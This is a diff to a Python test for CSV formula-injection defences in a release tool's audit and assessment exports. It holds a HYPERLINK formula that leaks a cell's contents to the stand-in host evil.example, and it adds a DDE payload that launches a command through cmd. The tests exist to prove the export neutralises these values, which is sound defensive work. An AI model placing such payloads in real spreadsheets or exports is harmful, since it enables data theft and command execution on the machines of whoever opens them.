@@ -20,6 +20,7 @@ from tests.conftest import approve_all, drain
 from tests.test_console import console, signed_in  # noqa: F401  (the console fixture)
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+DDE = "=cmd|' /C calc'!A0"  # a formula with no link in it: an 发布机构 passes the checks
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
 
 
@@ -79,17 +80,17 @@ def test_cli_audit_and_assessment_exports(ctx, settings, new_release):
     from orchestrator.domain.clock import utcnow
 
     hostile_user(ctx)
-    rid = new_release(metadata={"index_number": "1", "issuing_body": HOSTILE,
+    rid = new_release(metadata={"index_number": "1", "issuing_body": DDE,
                                 "disclosure": "主动公开"})
     approve_all(ctx, rid)
     drain(ctx)
     audit_rows = list(csv.reader(io.StringIO(run_cli(settings, "audit", "query", "--csv"))))
-    assert any("'" + HOSTILE in row for row in audit_rows)
+    assert any("'" + HOSTILE in row for row in audit_rows)  # the user's name
     no_formula(audit_rows)
     now = utcnow()
     quarter = f"{now.year}Q{(now.month - 1) // 3 + 1}"
     report = list(csv.DictReader(io.StringIO(run_cli(settings, "report", "assessment",
                                                      "--quarter", quarter, "--csv"))))
-    assert {r["department"] for r in report} == {"'" + HOSTILE}
+    assert {r["department"] for r in report} == {"'" + DDE}
     assert all(r["published"] == "1" for r in report)  # numbers stay numbers
     no_formula([list(r.values()) for r in report])
